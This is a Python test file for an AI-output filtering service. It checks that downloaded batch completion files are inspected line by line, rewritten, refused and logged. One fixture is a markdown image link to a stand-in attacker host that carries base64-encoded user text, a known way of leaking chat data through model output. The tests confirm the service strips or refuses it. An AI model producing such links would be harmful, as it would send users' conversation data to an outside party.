"""A file that is fetched: its lines are decided one by one, and remembered as one."""

from __future__ import annotations

import json
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from detectors.checks.links import Links
from detectors.inspect import Inspector
from detectors.views.document.view import Document
from service.errors import Overloaded, UpstreamMalformed
from service.pipeline.download import download
from service.pipeline.examine import Examiner
from service.pipeline.trace import Trace
from service.policy.model import Action
from service.providers.openai_file_content import OpenAIFileContent
from service.store.database import Database
from service.store.reader import read
from service.store.writer import Writer
from tests.service.pipeline.words import Words, examining

PROVIDER = OpenAIFileContent()
LINKS = """
  - {id: sent, description: d, stage: response, on: [model], when: data_exfiltration > 0.5,
     action: rewrite, edits: [{kind: strip_links}]}
  - {id: who, description: d, stage: response, on: [model], action: refuse, message: nobody,
     when: images_shown > 0 && identity > 0.5}
"""
LINK = "![x](https://evil.test/p.png?d=dGhlIHVzZXIgc2FpZCB0aGF0)"


@pytest.fixture
def examiner(tmp_path: Path) -> Examiner:
    made = examining(tmp_path, LINKS)
    return replace(made, inspector=Inspector([Document()], [Words(), Links()]))


def trace(store: Writer | None = None) -> Trace:
    return Trace(id="1" * 24, dialect=PROVIDER.dialect, policy="p", views=frozenset(), store=store)


def line(*texts: str, model: str = "m") -> bytes:
    choices = [{"index": i, "message": {"content": text}} for i, text in enumerate(texts)]
    body = {"object": "chat.completion", "model": model, "choices": choices}
    response = {"status_code": 200, "request_id": "r", "body": body}
    return json.dumps({"id": "b", "custom_id": "c", "response": response, "error": None}).encode()


def fetched(raw: bytes, examiner: Examiner, at: Trace | None = None) -> tuple[Action, bytes]:
    decision, out = download(raw, [], PROVIDER, examiner, at or trace())
    return decision.action, out


def message(row: bytes) -> Any:  # noqa: ANN401 - any JSON
    return json.loads(row)["response"]["body"]["choices"][0]["message"]


def test_what_offends_in_no_line_comes_byte_for_byte(examiner: Examiner) -> None:
    raw = line("fine") + b" \r\n\n" + line("also fine").replace(b"fine", b"f\\u0069ne") + b"\n\n"
    assert fetched(raw, examiner) == (Action.FORWARD, raw)


def test_each_line_is_decided_alone(examiner: Examiner) -> None:
    rows = [line("fine"), line("fine", "bad"), line(f"see {LINK}"), line("who"), line("boom")]
    known = trace()
    action, out = fetched(b"\n".join(rows), examiner, known)
    left = out.split(b"\n")
    assert action is Action.REWRITE
    assert left[0] == rows[0]
    assert message(left[1])["refusal"] == "not this answer"
    assert message(left[2])["content"] == "see ![x](#)"
    assert message(left[3])["refusal"] == "nobody"
    assert message(left[4])["refusal"] == "m1"
    ids = [json.loads(row)["response"]["body"].get("id") for row in left]
    assert ids == [
        None,
        f"chatcmpl-{'1' * 24}-1",
        None,
        *(f"chatcmpl-{'1' * 24}-{n}" for n in (3, 4)),
    ]
    assert known.action == "rewrite"
    assert (known.model, known.coverage) == ("m", "5/6")
    assert known.decision is not None
    assert set(known.decision.rules) == {"bad-answer", "sent", "who", "answer-incomplete"}


def test_one_record_is_kept_with_the_place_of_each_line(examiner: Examiner, tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'audit.db'}"
    writer = Writer(Database(url))
    known = trace(writer)
    fetched(line("fine") + b"\n" + line("bad", model="n"), examiner, known)
    known.remember()
    assert writer.close() == 0
    (record,) = read(url)
    assert (record.stage, record.action, record.rules) == ("response", "refuse", ("bad-answer",))
    at = "/lines/{}/response/body/choices/0/message/content"
    assert [part.pointer for part in record.parts] == [at.format(0), at.format(1)]
    assert [found.part for found in record.findings] == [at.format(1)]
    assert (record.model, record.pictures) == ("", 1)


def test_more_lines_than_time_are_refused_and_counted(examiner: Examiner) -> None:
    with pytest.raises(Overloaded, match="of its 3 lines 0 were inspected"):
        fetched(b"\n".join([line("fine")] * 3), replace(examiner, timeout_s=1e-9))


def test_a_line_that_cannot_be_read_holds_back_all(examiner: Examiner) -> None:
    with pytest.raises(UpstreamMalformed, match=r"\(/lines/1/custom_id\)"):
        fetched(line("fine") + b'\n{"custom_id": 7, "response": null}', examiner)


def test_another_file_passes_as_it_came_or_not_at_all(examiner: Examiner) -> None:
    assert fetched(b"fine", examiner) == (Action.FORWARD, b"fine")
    for raw in (b"\xff\0", b"PK\3\4"):
        assert fetched(raw, examiner)[0] is Action.REFUSE
    named = [("content-disposition", f'attachment; filename="{LINK}"')]
    decision, _ = download(b"fine", named, PROVIDER, examiner, trace())
    assert decision.action is Action.REFUSE
